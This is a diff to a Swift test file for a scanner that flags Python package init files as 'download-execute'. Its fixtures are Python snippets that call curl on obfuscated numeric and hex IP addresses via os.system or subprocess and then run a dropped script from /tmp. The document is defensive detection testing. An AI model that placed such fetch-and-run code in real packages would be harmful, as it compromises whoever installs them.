@@ -81,6 +81,8 @@ import Testing
         #expect(rules(scanFile("pkg/__init__.py", listed)) == ["download-execute"])
         let padded = "import os\nc = 'a b c d e curl 3325256724'\nos.system(c)\n"
         #expect(rules(scanFile("pkg/__init__.py", padded)) == ["download-execute"])
+        let launched = "import os, subprocess\nc = ('nice curl 0xc6336414 0xc6336414 0xc6336414 0xc6336414').split()\nsubprocess.run(c)\nos.system('sh /tmp/x')\n"
+        #expect(rules(scanFile("pkg/__init__.py", launched)) == ["download-execute"])
     }
 
     @Test func subprocessWithoutFetchIsClean() {
